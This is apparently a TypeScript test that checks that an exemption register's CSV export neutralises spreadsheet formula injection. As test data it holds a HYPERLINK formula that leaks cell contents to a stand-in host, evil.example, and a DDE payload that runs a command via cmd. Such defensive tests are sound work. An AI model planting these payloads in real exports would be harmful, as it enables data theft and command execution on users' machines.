/**
 * CSV formula injection (issue 16, item 4): text that a person typed (a justification, a phone's
 * name) and that starts with a formula sign comes out of every CSV export as text, never as a
 * formula a spreadsheet would evaluate.
 */
import { startTestApp, TestApp } from './support/test-app';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t.close());

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez ici pour valider")';

it('neutralises justifications and device names that start with =, +, -, @, tab or CR in the exemption register', async () => {
  const agent = await t.as('agent.interieur');
  const devices = (await agent.get('/me/devices').expect(200)).body as { id: string }[];
  expect(devices.length).toBeGreaterThan(0);
  await t.db.query(`UPDATE device SET display_name = $2 WHERE id = $1`, [devices[0].id, '@SUM(1+1)*cmd|/C calc!A0']);
  const requested = await agent
    .post('/exemptions')
    .send({ app: 'x', deviceId: devices[0].id, justification: FORMULA, days: 30 })
    .expect(201);
  await (await t.as('approver.interieur')).post(`/exemptions/${requested.body.id}/approve`).send({}).expect(200);

  const csv = await (await t.as('approver.interieur')).get('/ministries/interieur/exemption-register.csv').expect(200);
  const line = csv.text.split('\r\n').find((l) => l.includes(requested.body.id as string));
  expect(line).toBeDefined();
  // The cells are quoted by csv-stringify when needed; what a spreadsheet reads starts with an apostrophe.
  expect(line).toContain(`'@SUM(1+1)*cmd|/C calc!A0`);
  expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Cliquez ici pour valider"")"`);
  // `;`-separated, as French Excel reads it.
  const cells = (line as string).match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [];
  expect(cells.length).toBeGreaterThanOrEqual(10);
  for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
});
